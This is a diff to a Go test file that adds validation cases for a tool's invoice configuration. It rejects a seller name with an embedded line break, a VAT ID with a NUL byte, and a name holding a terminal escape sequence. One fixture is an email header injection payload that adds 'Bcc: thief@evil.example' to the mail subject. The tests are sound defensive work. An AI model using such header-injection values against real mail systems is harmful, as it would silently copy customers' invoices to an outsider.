@@ -26,6 +26,9 @@ func TestInvoiceConfigPaper(t *testing.T) {
 	data := t.TempDir() + "/data"
 	a5 := writeFile(t, "a5.toml", "[invoice]\npaper = \"A5\"\n")
 	noDays := writeFile(t, "due.toml", "[invoice]\ndue_days = 0\n")
+	// The seller's name goes into every invoice mail's subject.
+	crlf := writeFile(t, "seller.toml", "[invoice]\nseller_name = \"Acme\\r\\nBcc: thief@evil.example\"\n")
+	nul := writeFile(t, "vat.toml", "[invoice]\nseller_vat_id = \"DE\\u0000123\"\n")
 	for _, tc := range []struct {
 		name  string
 		env   env
@@ -36,6 +39,9 @@ func TestInvoiceConfigPaper(t *testing.T) {
 		{"paper as a flag", nil, []string{"serve", "--data", data, "--invoice-paper", "legal"}, []string{"config: invoice.paper:", `"legal"`}},
 		{"paper from the environment", env{"LICENSEDESK_INVOICE_PAPER": "tabloid"}, []string{"serve", "--data", data}, []string{"config: invoice.paper:", `"tabloid"`}},
 		{"due days zero", nil, []string{"serve", "--data", data, "--config", noDays}, []string{"config: invoice.due_days:", "1 to 3650"}},
+		{"seller name with a line break", nil, []string{"serve", "--data", data, "--config", crlf}, []string{"config: invoice.seller_name:", "one line"}},
+		{"seller VAT ID with NUL", nil, []string{"serve", "--data", data, "--config", nul}, []string{"config: invoice.seller_vat_id:", "control characters"}},
+		{"seller name from the environment", env{"LICENSEDESK_INVOICE_SELLER_NAME": "Acme\x1b[2J"}, []string{"serve", "--data", data}, []string{"config: invoice.seller_name:"}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			r := run(t, tc.env, "", tc.args...)
